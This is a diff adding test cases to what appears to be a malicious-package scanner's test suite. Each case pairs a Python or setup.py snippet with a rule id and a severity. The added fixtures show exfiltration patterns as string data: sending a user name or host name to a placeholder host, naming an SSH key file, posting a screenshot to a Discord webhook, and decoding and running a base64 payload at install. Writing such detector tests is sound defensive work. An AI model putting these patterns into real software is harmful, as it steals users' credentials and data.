@@ -148,6 +148,26 @@ CASES = [
                       "def send(data):\n    requests.post('https://x.example/k', data=data)\n"
                       "def main():\n    send(read())\n"},
      "code.exfiltration", H, "helpers of a function called on import are read too"),
+    ({"demo/r.py": "import os, requests\ndef hello():\n"
+                   "    requests.get('https://x.example/?u=' + os.getenv('USER'))\n"
+                   "def where():\n    return 'https://ipinfo.io/json'\n"},
+     "code.exfiltration", L, "a user name in a request from a function: low"),
+    ({"demo/r.py": "import os, requests\ndef sync():\n    key = os.path.expanduser('~/.ssh/id_rsa')\n"
+                   "    requests.get('https://x.example/status')\n"},
+     "code.exfiltration", M, "a key file named next to an unrelated request: medium"),
+    ({"demo/s.py": "import pyautogui, requests\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/" + "y" * 40 + "'\n"
+                   "def snap():\n    shot = pyautogui.screenshot()\n    requests.post(HOOK, files={'f': shot})\n"},
+     "code.exfiltration", H, "a screenshot posted to a webhook"),
+    (setup_py("import socket, requests\nhost, port = socket.gethostname(), 80\n"
+              "requests.get(f'https://x.example/{host}')\n"),
+     "code.exfiltration", C, "a host name unpacked from a tuple and sent at install"),
+    (setup_py(f"import base64, os\nwrite(base64.b64decode('{PAYLOAD}'))\nos.system('run')\n"),
+     "code.decode-exec", None, "a bare write() call names no file to start"),
+    (setup_py("import subprocess\ndef run(cmd='make'):\n    subprocess.check_call(cmd)\n"
+              "def log(f):\n    f.write(end='')\nrun()\n"),
+     "code.process-spawn", L, "a helper called without the argument that reaches its spawn"),
+    (setup_py("import requests\nrequests.get(f'https://x.example/ping')\n"),
+     "code.shady-url", None, "an f-string without placeholders is just a literal"),
     # ---- benign look-alikes of the new sources and senders
     ({"demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
                    "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
